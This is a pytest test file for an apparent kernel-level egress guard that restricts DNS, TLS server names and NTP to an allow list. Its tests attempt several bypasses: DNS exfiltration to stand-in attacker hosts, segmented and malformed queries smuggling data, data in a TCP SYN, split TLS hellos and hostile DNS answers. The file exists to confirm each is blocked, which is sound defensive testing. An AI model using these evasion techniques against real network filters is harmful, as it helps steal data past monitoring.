# SPDX-License-Identifier: MIT
"""Names judged in the kernel: what may be asked for, what a connection must open with, and what answers teach."""
import json
import os
import socket
import ssl
import struct
import subprocess
import time
from pathlib import Path

import pytest

from guard import newer, poll
from lab import dnswire, ntp, topology

BINARY = os.environ.get("OHGUARD", str(Path(__file__).resolve().parents[2] / "build/ohguard"))
ALLOWED, ADDRESS = "api.openai.com", "203.0.113.10"
CDN = "198.51.100.50"           # files.cdn.example and tenant.cdn.example
CONF = """[guard]
cgroup = {cgroup}
[dns]
resolver = 10.0.0.2
inspect = on
name = asked.lab.example
name = *.ask.lab.example
{dns}
[ntp]
{ntp}
[allow]
target = api.openai.com
target = files.cdn.example
target = plain.lab.example:80 sni=off
target = 198.51.100.40
"""


class Guard:
    def __init__(self, lab):
        self.lab = lab

    def ohguard(self, *args, guarded=False):
        return self.lab.server.run([BINARY, *args], guarded=guarded)

    def load(self, dns="", ntp="server = 169.254.169.123"):
        text = CONF.format(cgroup=self.lab.cgroup, dns=dns, ntp=ntp)
        self.lab.server.run(["sh", "-c", "mkdir -p /etc/ohguard && cat >/etc/ohguard/ohguard.conf"], input=text,
                            check=True)
        r = self.ohguard("load")
        assert r.returncode == 0, r.stderr

    told = {}

    def events(self):
        """What was refused since the last call. Connections end: what one still has to send would be told later."""
        self.lab.server.run(["ss", "-K", "-t", "dport", "=", "443", "or", "dport", "=", "53"], check=True)
        r = self.ohguard("events", "--json")
        assert r.returncode == 0, r.stderr
        before, self.told = self.told, {}
        return newer(map(json.loads, r.stdout.splitlines()), before, self.told)

    def python(self, code, *args):
        return self.lab.server.run(["/usr/bin/python3", "-c", code, *map(str, args)], guarded=True)


@pytest.fixture
def guard(lab):
    lab.dns.add("asked.lab.example", "203.0.113.80")
    lab.dns.add("deep.er.ask.lab.example", "203.0.113.81")
    lab.dns.add("plain.lab.example", "203.0.113.82")
    g = Guard(lab)
    try:
        g.load()
        g.events()
        yield g
    finally:
        g.events()
        g.ohguard("unload", "--yes")
        lab.server.run(["rm", "-rf", "/var/lib/ohguard", "/var/log/ohguard"], check=True)


def query(name, qtype=1, tail=b"", counts=(1, 0, 0, 0), flags=0x0100):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p)
    return struct.pack("!HH4H", 0x4242, flags, *counts) + labels + b"\0" + struct.pack("!HH", qtype, 1) + tail


SEND = """
import errno, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
try:
    s.sendto(bytes.fromhex(sys.argv[3]), (sys.argv[1], int(sys.argv[2])))
    print("answered", len(s.recv(4096)))
except OSError as e:
    print(errno.errorcode.get(e.errno, "timeout"))
"""


@pytest.mark.parametrize("name", ["api.openai.com", "API.OpenAI.com", "asked.lab.example", "deep.er.ask.lab.example"])
@pytest.mark.parametrize("tcp", [(), ("+tcp",)])
def test_allowed_name_is_answered(guard, name, tcp):
    r = guard.lab.server.run(["dig", "+time=3", "+tries=1", *tcp, "@10.0.0.2", name, "A"], guarded=True)
    assert "status: NOERROR" in r.stdout and "203.0.113." in r.stdout, r.stdout
    assert guard.events() == []


@pytest.mark.parametrize("name", ["google.com", "c2VjcmV0.attacker.example", "openai.com", "evil-api.openai.com",
                                  "x.api.openai.com", "ask.lab.example", ".", "10.113.0.203.in-addr.arpa"])
@pytest.mark.parametrize("tcp", [(), ("+tcp",)])
def test_other_name_never_leaves(guard, name, tcp):
    mark = guard.lab.wire.mark()
    r = guard.lab.server.run(["dig", "+time=1", "+tries=1", *tcp, "@10.0.0.2", name, "A"], guarded=True)
    assert "status:" not in r.stdout
    assert not [f for f in guard.lab.wire.traffic(mark) if b"".join(
        bytes([len(p)]) + p.encode() for p in name.split(".") if p) + b"\0\0\x01\0\x01" in bytes(f.payload)]
    events = guard.events()
    told = {(e["reason"], e["name"], e["destination_port"]) for e in events}
    assert told == {("dns-name-not-allowed", name.lower(), 53)}


def test_glibc_is_told_at_once(guard):
    r = guard.python("import socket\ntry:\n    socket.getaddrinfo('google.com', 443)\nexcept socket.gaierror as e:\n   "
                     " print('refused')")
    assert r.stdout == "refused\n", r.stderr
    assert {(e["reason"], e["name"]) for e in guard.events()} == {("dns-name-not-allowed", "google.com")}


MALFORMED = {
    "data behind": query(ALLOWED, tail=b"secret"),
    "two questions": query(ALLOWED, counts=(2, 0, 0, 0), tail=b"\6secret\0\0\1\0\1"),
    "a response": query(ALLOWED, flags=0x8100),
    "an update": query(ALLOWED, flags=0x2800),
    "not DNS": b"secret data for somebody else",
}


@pytest.mark.parametrize("what", MALFORMED)
def test_malformed_query_is_refused(guard, what):
    assert guard.python(SEND, "10.0.0.2", 53, MALFORMED[what].hex()).stdout == "EPERM\n"
    assert [e["reason"] for e in guard.events()] == ["dns-malformed"]


def test_segmented_datagram_is_refused(guard):
    """UDP_SEGMENT would make the option's data a query of its own."""
    smuggled = query("secret.attacker.example")
    opt = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 4 + len(smuggled)) + struct.pack("!HH", 65001, len(smuggled))
    head = query(ALLOWED, counts=(1, 0, 0, 1), tail=opt)
    # padded so that the cut falls where the smuggled query begins
    code = """
import errno, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(17, 103, int(sys.argv[2]))
try:
    s.sendto(bytes.fromhex(sys.argv[1]), ("10.0.0.2", 53))
    print("sent")
except OSError as e:
    print(errno.errorcode[e.errno])
"""
    mark = guard.lab.wire.mark()
    r = guard.python(code, (head + smuggled).hex(), len(head))
    assert r.stdout == "EPERM\n", r.stdout + r.stderr
    assert not guard.lab.wire.traffic(mark)


TCP_QUERIES = """
import socket, struct, sys, time
s = socket.create_connection(("10.0.0.2", 53), timeout=10)
for part in sys.argv[2:]:
    s.sendall(bytes.fromhex(part))
    time.sleep(float(sys.argv[1]))
got = b""
try:
    for _ in range(2):
        n = struct.unpack("!H", s.recv(2, socket.MSG_WAITALL))[0]
        got = s.recv(n, socket.MSG_WAITALL)
        print("answered", got[2] >> 7)
except OSError as e:
    print(type(e).__name__)
"""


def frame(message):
    return struct.pack("!H", len(message)) + message


def test_tcp_queries_in_one_segment_and_in_pieces(guard):
    both = frame(query(ALLOWED)) + frame(query(ALLOWED, 28))
    assert guard.python(TCP_QUERIES, 0, both.hex()).stdout == "answered 1\n" * 2
    pieces = [both[i:i + 7].hex() for i in range(0, len(both), 7)]
    assert guard.python(TCP_QUERIES, 0.02, *pieces).stdout == "answered 1\n" * 2
    assert guard.events() == []


def test_second_tcp_query_is_judged_too(guard):
    mark = guard.lab.wire.mark()
    r = guard.python(TCP_QUERIES.replace("timeout=10", "timeout=2"), 0.2, frame(query(ALLOWED)).hex(),
                     frame(query("secret.attacker.example")).hex())
    assert r.stdout.startswith("answered 1\n") and r.stdout.count("answered") == 1, r.stdout + r.stderr
    assert not [f for f in guard.lab.wire.traffic(mark) if b"secret" in bytes(f.payload)]
    assert {(e["reason"], e["name"], e["command"]) for e in guard.events()} == {
        ("dns-name-not-allowed", "secret.attacker.example", "python3")}


def test_ntp_is_a_plain_request_only(guard):
    server = topology.TIME[0]
    assert guard.python(SEND, server, 123, ntp.request().hex()).stdout == "answered 48\n"
    assert guard.events() == []
    for bad in (ntp.request() + b"secret", b"\x23" + b"secret".ljust(47), b"\x16" + bytes(47), ntp.request()[:40]):
        assert guard.python(SEND, server, 123, bad.hex()).stdout == "EPERM\n"
        assert [e["reason"] for e in guard.events()] == ["ntp-malformed"]


TIMES = """
import errno, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
said = []
for _ in range(int(sys.argv[3])):
    try:
        s.sendto(bytes.fromhex(sys.argv[2]), (sys.argv[1], 123))
        said.append("sent")
    except OSError as e:
        said.append(errno.errorcode[e.errno])
print(*said)
"""
DEFAULT_TIME = ["ntp.ubuntu.com", *(f"{n}.{pool}.pool.ntp.org" for n in range(4) for pool in ("debian", "ubuntu"))]


@pytest.mark.parametrize("name", ["2.debian.pool.ntp.org", "ntp.ubuntu.com"])
def test_default_time_servers_are_learned_when_they_are_asked_for(guard, name):
    """And stay allowed for as long as they are: clients resolve once."""
    guard.lab.dns.script(name, "answer", a=["203.0.113.123"], ttl=1)
    guard.load(dns="min-ttl = 1s\ngrace = 60s", ntp="")
    guard.ohguard("refresh")
    assert all(t["addresses"] == [] and t["last_resolved"] is None for t in (target(guard, n) for n in DEFAULT_TIME))
    request = ntp.request().hex()
    assert guard.python(TIMES, "203.0.113.123", request, 1).stdout == "EPERM\n"
    assert {e["reason"] for e in guard.events()} == {"ntp-server-not-allowed"}
    assert guard.python(SEND, "10.0.0.2", 53, query(name).hex()).stdout.startswith("answered")
    assert target(guard, name)["addresses"][0]["seconds_left"] <= 61
    assert guard.python(TIMES, "203.0.113.123", request, 1).stdout == "sent\n"
    assert 7000 < target(guard, name)["addresses"][0]["seconds_left"] <= 7200
    assert curl(guard, name, "203.0.113.123", "-k").returncode == 7         # for the time alone


def test_time_server_is_not_asked_more_often_than_clients_do(guard):
    said = guard.python(TIMES, topology.TIME[0], ntp.request().hex(), 40).stdout.split()
    assert said[:8] == ["sent"] * 8 and said.count("EPERM") > 20
    assert {e["reason"] for e in guard.events()} == {"ntp-rate"}


def nts_request(last=0x0404):
    return ntp.request() + b"".join(struct.pack("!HH", kind, 36) + bytes(32) for kind in (0x0104, 0x0204, last))


def test_time_security_passes_where_it_is_configured(guard):
    server = topology.TIME[0]
    assert guard.python(TIMES, server, nts_request().hex(), 1).stdout == "EPERM\n"
    guard.load(ntp=f"server = {server}\nnts = on")
    assert guard.python(TIMES, server, nts_request().hex(), 1).stdout == "sent\n"
    assert guard.python(TIMES, server, nts_request(0x7777).hex(), 1).stdout == "EPERM\n"
    assert guard.python(TIMES, server, ntp.request().hex(), 1).stdout == "sent\n"
    assert {e["reason"] for e in guard.events()} == {"ntp-malformed"}


def test_allow_and_revoke_change_what_may_be_asked(guard):
    def dig():
        return "NOERROR" in guard.lab.server.run(["dig", "+time=1", "+tries=1", "google.com"], guarded=True).stdout

    assert not dig()
    r = guard.ohguard("allow", "google.com", guarded=True)      # from inside: its own queries are judged too
    assert r.returncode == 0, r.stderr
    assert dig()
    assert guard.ohguard("revoke", "google.com").returncode == 0
    assert not dig()


WAIT = """
import errno, socket, sys
s = socket.create_connection((sys.argv[1], 443))
print("connected", flush=True)
try:
    print(s.recv(1))
except OSError as e:
    print(errno.errorcode[e.errno])
"""
TAKE_BACK = {"revoke": ["revoke", "198.51.100.41"], "load": ["load"], "lapse": ["refresh"]}


@pytest.mark.parametrize("how", TAKE_BACK)
def test_connection_of_what_is_taken_back_is_told_at_once(guard, how):
    """It waits for data that can never come, and would not see that by itself. Another's goes on."""
    text = CONF.format(cgroup=guard.lab.cgroup, dns="", ntp="server = none")
    if how == "load":
        guard.lab.server.run(["sh", "-c", "cat >/etc/ohguard/ohguard.conf"], input=text + "target = 198.51.100.41\n",
                             check=True)
        assert guard.ohguard("load").returncode == 0
        guard.lab.server.run(["sh", "-c", "cat >/etc/ohguard/ohguard.conf"], input=text, check=True)
    else:
        lapse = ["--for", "3s"] if how == "lapse" else []
        assert guard.ohguard("allow", *lapse, "198.51.100.41").returncode == 0
    clients = [subprocess.Popen(guard.lab.server.command(["/usr/bin/python3", "-c", WAIT, address], True), text=True,
                                env=guard.lab.server.environment(), stdout=subprocess.PIPE)
               for address in ("198.51.100.41", "198.51.100.40")]
    try:
        assert [p.stdout.readline() for p in clients] == ["connected\n"] * 2
        if how == "lapse":
            poll(lambda: "198.51.100.41:443  (lapsed " in guard.ohguard("list").stdout, "its end")
        assert guard.ohguard(*TAKE_BACK[how]).returncode == 0
        assert clients[0].stdout.readline() == "ECONNABORTED\n"
        assert clients[1].poll() is None
    finally:
        for p in clients:
            p.kill()
            p.wait()


def test_failed_allow_leaves_no_name_to_ask_for(guard):
    assert guard.ohguard("allow", "missing.attacker.example", guarded=True).returncode == 1
    guard.events()
    guard.lab.server.run(["dig", "+time=1", "+tries=1", "missing.attacker.example"], guarded=True)
    assert {e["reason"] for e in guard.events()} == {"dns-name-not-allowed"}


# ---- the TLS name ----

def curl(guard, name, address, *args, scheme="https", port=443):
    return guard.lab.server.run(["curl", "-sS", "-m", "20", "--resolve", f"{name}:{port}:{address}", *args,
                                 f"{scheme}://{name}:{port}/"], guarded=True)


def is_cut(r):
    """The kernel gave the connection up: curl's own limit of 20 seconds would be status 28."""
    return r.returncode in (35, 56) and "Connection timed out" in r.stderr


def payload(guard, mark, address):
    return [f for f in guard.lab.wire.traffic(mark, dst=address) if bytes(f.payload)]


@pytest.mark.parametrize("args", [(), ("--tlsv1.3",), ("--tls-max", "1.2"), ("--http1.1",)])
def test_allowed_server_name_connects(guard, args):
    assert curl(guard, ALLOWED, ADDRESS, *args).returncode == 0
    assert guard.events() == []


@pytest.mark.parametrize("name,reason",
                         [("tenant.cdn.example", "tls-name-not-allowed"), ("xapi.openai.com", "tls-name-not-allowed")])
def test_other_server_name_sends_nothing(guard, name, reason):
    mark = guard.lab.wire.mark()
    assert is_cut(curl(guard, name, CDN, "-k"))
    assert not payload(guard, mark, CDN)
    events = guard.events()
    assert {(e["reason"], e["name"]) for e in events} == {(reason, name)}


def test_no_name_and_not_tls_send_nothing(guard):
    mark = guard.lab.wire.mark()
    assert is_cut(curl(guard, CDN, CDN, "-k"))
    assert {(e["reason"], e["name"]) for e in guard.events()} == {("tls-no-name", None)}
    assert is_cut(curl(guard, ALLOWED, ADDRESS, scheme="http"))
    assert {e["reason"] for e in guard.events()} == {"tls-not-tls"}
    assert not payload(guard, mark, CDN) and not payload(guard, mark, ADDRESS)


def test_name_with_a_dot_at_its_end_is_told(guard):
    """RFC 6066, 3, forbids it: refused, whatever name it is."""
    script = ("import socket, ssl, sys; ssl.create_default_context().wrap_socket(socket.create_connection("
              "(sys.argv[1], 443), 10), server_hostname=sys.argv[2])")
    mark = guard.lab.wire.mark()
    assert guard.python(script, ADDRESS, ALLOWED + ".").returncode
    assert not payload(guard, mark, ADDRESS)
    assert {(e["reason"], e["name"]) for e in guard.events()} == {("tls-no-name", ALLOWED + ".")}


def test_addresses_and_sni_off_have_no_name_rule(guard):
    assert curl(guard, "example.com", "198.51.100.40").returncode == 0
    assert curl(guard, "plain.lab.example", "203.0.113.82", scheme="http", port=80).returncode == 0
    assert guard.events() == []


def hello(name, size=0):
    """A real hello, by OpenSSL; padded to a post-quantum one's size by protocols on offer."""
    context = ssl.create_default_context()
    if size:
        context.set_alpn_protocols([f"{i:03}".ljust(200, "x") for i in range(size // 201)])
    outgoing = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


PIECES = """
import errno, socket, sys, time
s = socket.create_connection((sys.argv[1], 443), timeout=20)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
data, step = sys.stdin.buffer.read(), int(sys.argv[2])
try:
    for i in range(0, len(data), step):
        s.sendall(data[i:i + step])
        time.sleep(float(sys.argv[3]))
    print(s.recv(1)[0])
except OSError as e:
    print(errno.errorcode.get(e.errno, "silence"))
"""


def pieces(guard, data, step, pause, address=ADDRESS):
    r = subprocess.run(guard.lab.server.command(["/usr/bin/python3", "-c", PIECES, address, str(step), str(pause)],
                                                True),
                       env=guard.lab.server.environment(), input=data, capture_output=True, timeout=60)
    return r.stdout.decode()


@pytest.mark.parametrize("size,step,pause",
                         [(0, 1, 0), (0, 100, 0.05), (1500, 700, 0.2), (4000, 1000, 0.1), (0, 5, 0.01), (1500, 900, 2)])
def test_split_hello_is_held_until_its_name_is_known(guard, size, step, pause):
    """22 or 21: the server answers with a handshake or an alert, so it got the hello."""
    mark = guard.lab.wire.mark()
    data = hello(ALLOWED, size)
    assert pieces(guard, data, step, pause) in ("22\n", "21\n")
    assert bytes(payload(guard, mark, ADDRESS)[0].payload)[:64] == data[:64]
    assert guard.events() == []


def test_split_hello_with_another_name_sends_nothing(guard):
    mark = guard.lab.wire.mark()
    assert pieces(guard, hello("secret.attacker.example", 1500), 400, 0.05) == "ETIMEDOUT\n"
    assert not payload(guard, mark, ADDRESS)
    assert {e["reason"] for e in guard.events()} == {"tls-name-not-allowed"}


def test_refused_query_over_tcp_is_cut(guard):
    """The program waits for its answer without a limit of its own."""
    code = """
import errno, socket, sys
s = socket.create_connection(("10.0.0.2", 53))
s.sendall(bytes.fromhex(sys.argv[1]))
try:
    s.recv(1)
except OSError as e:
    print(errno.errorcode[e.errno])
"""
    assert guard.python(code, frame(query("secret.attacker.example")).hex()).stdout == "ETIMEDOUT\n"
    assert {e["reason"] for e in guard.events()} == {"dns-name-not-allowed"}


def test_this_kernel_shows_which_pages_can_change(guard):
    """Where one does not, status says so: see tests/vm/cases/initramfs-lockdown.sh."""
    assert not [n for n in json.loads(guard.ohguard("status", "--json").stdout)["notes"] if "pages" in n]


def test_quick_error_comes_and_goes_with_inspect(guard):
    def hooks():
        return {h["hook"]: h["attached"] for h in json.loads(guard.ohguard("status", "--json").stdout)["hooks"]}

    assert hooks()["sock_ops"]
    text = CONF.format(cgroup=guard.lab.cgroup, dns="", ntp="server = none")
    for inspect in ("off", "on"):
        guard.lab.server.run(["sh", "-c", "cat >/etc/ohguard/ohguard.conf"],
                             input=text.replace("inspect = on", f"inspect = {inspect}"), check=True)
        assert guard.ohguard("load").returncode == 0
        assert hooks().get("sock_ops", False) == (inspect == "on")
        pinned = guard.lab.server.run(["test", "-e", "/sys/fs/bpf/ohguard/host/sock_ops"])
        assert pinned.returncode == (inspect == "off")
    guard.lab.server.run(["rm", "/sys/fs/bpf/ohguard/host/sock_ops"], check=True)
    status = guard.ohguard("status")
    assert status.returncode == 4 and "sock_ops is not attached" in status.stdout


def test_observing_tells_of_a_connection_once_and_lets_it_be(guard):
    assert guard.ohguard("load", "--observe").returncode == 0
    assert curl(guard, "tenant.cdn.example", CDN).returncode == 0
    assert [(e["verdict"], e["reason"], e["name"]) for e in guard.events()] == [
        ("observed", "tls-name-not-allowed", "tenant.cdn.example")]
    assert pieces(guard, hello("secret.attacker.example"), 100, 0.05) in ("22\n", "21\n")
    assert [(e["verdict"], e["reason"]) for e in guard.events()] == [("observed", "tls-incomplete")]
    assert curl(guard, ALLOWED, ADDRESS, scheme="http").returncode != 28
    assert [e["reason"] for e in guard.events()] == ["tls-not-tls"]
    assert curl(guard, ALLOWED, ADDRESS).returncode == 0
    assert guard.events() == []


def test_observing_tells_of_each_query(guard):
    assert guard.ohguard("load", "--observe").returncode == 0
    queries = [frame(query(name)).hex() for name in ("google.com", ALLOWED, "github.com")]
    assert guard.python(TCP_QUERIES.replace("range(2)", "range(3)"), 0.1, *queries).stdout == "answered 1\n" * 3
    assert [(e["verdict"], e["reason"], e["name"]) for e in guard.events()] == [
        ("observed", "dns-name-not-allowed", name) for name in ("google.com", "github.com")]
    both = frame(query("google.com"))
    r = guard.python(TCP_QUERIES.replace("range(2)", "range(1)"), 0.1, both[:9].hex(), both[9:].hex())
    assert r.stdout == "answered 1\n"
    assert [(e["verdict"], e["reason"]) for e in guard.events()] == [("observed", "dns-malformed")]


def test_observing_tells_of_an_older_connection_once(guard):
    """As when the guard is tried out on a machine that is at work."""
    guard.lab.server.run([BINARY, "unload", "--yes"], check=True)
    code = ("import socket, sys\ns = socket.create_connection((sys.argv[1], 443), 5)\nprint('open', flush=True)\n"
            "for _ in sys.stdin:\n    s.sendall(b'more')\n    print('sent', flush=True)\n")
    p = guard.lab.server.popen(["/usr/bin/python3", "-c", code, ADDRESS], guarded=True, stdin=subprocess.PIPE,
                               stdout=subprocess.PIPE, text=True, bufsize=1)
    try:
        assert p.stdout.readline() == "open\n"
        assert guard.ohguard("load", "--observe").returncode == 0
        guard.ohguard("events")
        for _ in range(3):
            p.stdin.write("\n")
            assert p.stdout.readline() == "sent\n"
            time.sleep(0.1)
    finally:
        p.kill()
        p.communicate()
    assert [(e["verdict"], e["reason"]) for e in guard.events()] == [("observed", "tls-incomplete")]


def test_data_in_the_syn_is_refused(guard):
    code = """
import socket, sys
s = socket.socket()
s.settimeout(3)
s.setsockopt(socket.IPPROTO_TCP, 34, 1)    # TCP_FASTOPEN_NO_COOKIE
try:
    s.sendto(b"secret in the SYN", 0x20000000, (sys.argv[1], 443))
    s.recv(1)
except OSError as e:
    print(type(e).__name__)
"""
    mark = guard.lab.wire.mark()
    guard.python(code, ADDRESS)
    assert not payload(guard, mark, ADDRESS)
    assert {e["reason"] for e in guard.events()} == {"tls-in-syn", "tls-not-tls"}


def test_revoked_name_cuts_the_connection_that_gave_it(guard):
    """The address is also another target's, which lives on."""
    assert guard.ohguard("allow", "tenant.cdn.example").returncode == 0
    code = """
import socket, ssl, sys
c = ssl.create_default_context()
c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
s = c.wrap_socket(socket.create_connection((sys.argv[1], 443), timeout=4), server_hostname="tenant.cdn.example")
print("connected", flush=True)
sys.stdin.readline()
try:
    s.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    print(s.recv(4))
except OSError as e:
    print(type(e).__name__)
"""
    p = guard.lab.server.popen(["/usr/bin/python3", "-c", code, CDN], guarded=True, stdin=subprocess.PIPE,
                               stdout=subprocess.PIPE, text=True)
    try:
        assert p.stdout.readline() == "connected\n"
        assert guard.ohguard("revoke", "tenant.cdn.example").returncode == 0
        mark = guard.lab.wire.mark()
        p.stdin.write("\n")
        p.stdin.close()
        # told by its first or its second call
        assert p.stdout.read() in ("SSLEOFError\n", "ConnectionAbortedError\n")
        assert not payload(guard, mark, CDN)
    finally:
        p.kill()
        p.wait()


# ---- answers ----

POOL = """
import socket, sys
failed = 0
for i in range(int(sys.argv[2])):
    try:
        a = socket.getaddrinfo(sys.argv[1], 443, socket.AF_INET, socket.SOCK_STREAM)[0][4]
        socket.create_connection(a, timeout=5).close()
    except OSError as e:
        failed += 1
        print(i, a, e)
print("failed", failed)
"""


def target(guard, name):
    r = guard.ohguard("list", "--json")
    assert r.returncode == 0, r.stderr
    return next(t for t in json.loads(r.stdout)["targets"] if t["target"] == name)


def learned(guard, name):
    return {a["address"] for a in target(guard, name)["addresses"] if a["learned"] == "answer"}


def test_rotating_pool_is_never_refused(guard):
    guard.lab.dns.script("pool.lab.example", "rotate")
    assert guard.ohguard("allow", "pool.lab.example").returncode == 0
    guard.events()
    assert guard.python(POOL, "pool.lab.example", 300).stdout == "failed 0\n"
    r = guard.lab.server.run(["curl", "-sS", "-4", "https://pool.lab.example/"], guarded=True)
    assert r.returncode == 0, r.stderr
    assert guard.events() == []
    assert len(learned(guard, "pool.lab.example")) >= 199


ALL = """
import socket, sys
failed, all = 0, socket.getaddrinfo(sys.argv[1], 443, 0, socket.SOCK_STREAM)
for a in all:
    try:
        socket.create_connection(a[4][:2], timeout=5).close()
    except OSError as e:
        failed += 1
        print(a, e)
print("all", len(all), "failed", failed)
"""


def test_answer_over_tcp_teaches(guard):
    """glibc asks without EDNS: what is longer than 512 bytes comes over TCP, both families on one connection."""
    guard.lab.dns.script("big.sub.lab.example", "answer", a=[f"192.0.2.{i}" for i in range(1, 41)],
                         aaaa=[f"2001:db8:2::{i:x}" for i in range(1, 41)])
    assert guard.ohguard("allow", "*.sub.lab.example").returncode == 0
    guard.events()
    # of each answer the first sixteen
    assert guard.python(ALL, "big.sub.lab.example").stdout.endswith("all 80 failed 48\n")
    assert {e["reason"] for e in guard.events()} == {"address-not-allowed"}
    assert {q["via"] for q in guard.lab.dns.queries() if q["name"] == "big.sub.lab.example"} == {"udp", "tcp"}


FRAMES = """
import socket, struct, sys, time
s = socket.create_connection(("10.0.0.2", 53), timeout=5)
s.sendall(bytes.fromhex(sys.argv[1]))
f = s.makefile("rb")
for _ in range(int(sys.argv[2])):
    print(len(f.read(struct.unpack("!H", f.read(2))[0])) > 2)
"""


def test_answer_within_an_answer_teaches_nothing(guard):
    """Where a later message begins is counted, whatever one before it holds; and a split one costs only itself."""
    inner = (b"\x42\x42\x81\x80\0\1\0\1\0\0\0\0" + b"\3two\3sub\3lab\7example\0\0\1\0\1" +
             b"\xc0\x0c\0\1\0\1\0\0\1\0\0\4" + socket.inet_aton("203.0.113.66"))
    guard.lab.dns.script("one.sub.lab.example", "garbage", bytes=(b"x" * 30 + frame(inner)).hex(), split=32)
    guard.lab.dns.script("two.sub.lab.example", "answer", a=["192.0.2.91"])
    assert guard.ohguard("allow", "*.sub.lab.example").returncode == 0
    # two is asked when one is answered
    both = frame(query("one.sub.lab.example")) + frame(query("two.sub.lab.example"))
    assert guard.python(FRAMES, both.hex(), 2).stdout == "True\n" * 2
    assert learned(guard, "*.sub.lab.example") == {"192.0.2.91"}
    guard.lab.dns.script("two.sub.lab.example", "answer", a=["192.0.2.92"], split=20)
    assert guard.python(FRAMES, frame(query("two.sub.lab.example")).hex(), 1).stdout == "True\n"
    assert learned(guard, "*.sub.lab.example") == {"192.0.2.91"}


@pytest.mark.parametrize("ttl, lives", [(3600, 3600), (200000, 86400)])
def test_learned_address_lives_for_its_ttl_and_grace(guard, ttl, lives):
    """A program may have it from a cache for as long; at most for a day, and max-ttl has no say in it."""
    guard.load(dns="min-ttl = 1s\nmax-ttl = 40s\ngrace = 20s")
    guard.lab.dns.script("pool.lab.example", "rotate", ttl=ttl)
    assert guard.ohguard("allow", "pool.lab.example").returncode == 0
    assert guard.python(POOL, "pool.lab.example", 3).stdout == "failed 0\n"
    left = [a["seconds_left"] for a in target(guard, "pool.lab.example")["addresses"] if a["learned"] == "answer"]
    assert len(left) >= 3 and all(lives - 10 < s <= lives + 20 for s in left), left


def test_suffix_covers_any_depth_and_its_names_alone(guard):
    guard.lab.dns.add("one.sub.lab.example", "203.0.113.90")
    guard.lab.dns.add("a.b.c.sub.lab.example", "203.0.113.91")
    assert guard.ohguard("allow", "*.sub.lab.example").returncode == 0
    for name in ("one.sub.lab.example", "a.b.c.sub.lab.example"):
        r = guard.lab.server.run(["curl", "-ksS", "-m", "4", f"https://{name}/"], guarded=True)
        assert r.returncode == 0, r.stderr
    assert guard.events() == []
    assert guard.lab.server.run(["curl", "-ksS", "-m", "2", "https://sub.lab.example/"], guarded=True).returncode == 6
    assert learned(guard, "*.sub.lab.example") == {"203.0.113.90", "203.0.113.91"}
    assert guard.ohguard("revoke", "*.sub.lab.example").returncode == 0
    r = guard.lab.server.run(["curl", "-ksS", "-m", "2", "--resolve", "one.sub.lab.example:443:203.0.113.90",
                              "https://one.sub.lab.example/"], guarded=True)
    assert r.returncode == 7


# Public ones, some that a list of early 2023 does not have, and some that have a public one below them.
@pytest.mark.parametrize("suffix", ["*.com", "*.co.uk", "*.github.io", "*.s3.amazonaws.com", "*.blob.core.windows.net",
                                    "*.azurefd.net", "*.lambda-url.us-east-1.on.aws", "*.hf.space", "*.amazonaws.com",
                                    "*.windows.net", "*.on.aws"])
def test_public_suffix_is_refused(guard, suffix):
    r = guard.ohguard("allow", suffix)
    assert r.returncode == 1 and "anyone can have a name" in r.stderr, r.stderr


LIAR = "liar.sub.lab.example"
BEHIND = len(query(LIAR))       # where an answer's first record stands


def record(owner, address="192.0.2.77", rtype=1):
    return owner + struct.pack("!HHIH", rtype, 1, 300, 4) + socket.inet_aton(address)


def pointer(to):
    return struct.pack("!H", 0xC000 | to)


def raw(*records, count=None, questions=1):
    return {"counts": [questions, len(records) if count is None else count, 0, 0], "questions": questions,
            "rest": b"".join(records).hex()}


def test_answer_that_comes_after_a_second_load_teaches(guard):
    """The query left under the programs before it."""
    ask = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(20)
s.connect(("10.0.0.2", 53))
s.send(bytes.fromhex(sys.argv[1]))
print("asked", flush=True)
print("answered", len(s.recv(512)))
"""
    name = "late.sub.lab.example"
    assert guard.ohguard("allow", "*.sub.lab.example").returncode == 0
    loaded = guard.lab.dir / "loaded"
    guard.lab.dns.script(name, "late", after=str(loaded), a=["192.0.2.80"])
    p = subprocess.Popen(guard.lab.server.command(["/usr/bin/python3", "-c", ask, query(name).hex()], True),
                         env=guard.lab.server.environment(), stdout=subprocess.PIPE, text=True)
    try:
        assert p.stdout.readline() == "asked\n"
        guard.load()
        loaded.touch()
        assert p.stdout.readline().startswith("answered")
    finally:
        p.kill()
        p.wait()
        loaded.unlink(missing_ok=True)
    assert learned(guard, "*.sub.lab.example") == {"192.0.2.80"}


OTHER = dnswire.encode_name("other.sub.lab.example")
HOSTILE = {
    "a pointer to itself": raw(record(pointer(BEHIND))),
    "pointers in a ring": raw(record(b"\1a" + pointer(BEHIND + 18)), record(b"\1b" + pointer(BEHIND))),
    "a pointer forward": raw(record(pointer(BEHIND + 16)), record(pointer(12), rtype=16)),
    "more records announced than there are": raw(record(pointer(12)), count=9),
    "records of another name": raw(*[record(OTHER)] * 3),
    "four kilobytes of records": raw(*[record(OTHER)] * 110),
    "two questions": raw(record(pointer(12)), questions=2),
    "no question": {"counts": [0, 1, 0, 0], "questions": 0, "rest": record(dnswire.encode_name(LIAR)).hex()},
    "127 labels": raw(record(b"\1a" * 127 + b"\0")),
    "a label too long": raw(record(b"\x7f" + b"a" * 127 + b"\0")),
    "a record cut short": {**raw(record(pointer(12))[:-2]), "counts": [1, 1, 0, 0]},
}


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_answer_teaches_nothing(guard, what):
    assert guard.ohguard("allow", "*.sub.lab.example").returncode == 0
    guard.lab.dns.script(LIAR, "raw", **HOSTILE[what])
    assert guard.python(SEND, "10.0.0.2", 53, query(LIAR).hex()).stdout.startswith("answered")
    assert learned(guard, "*.sub.lab.example") == set()
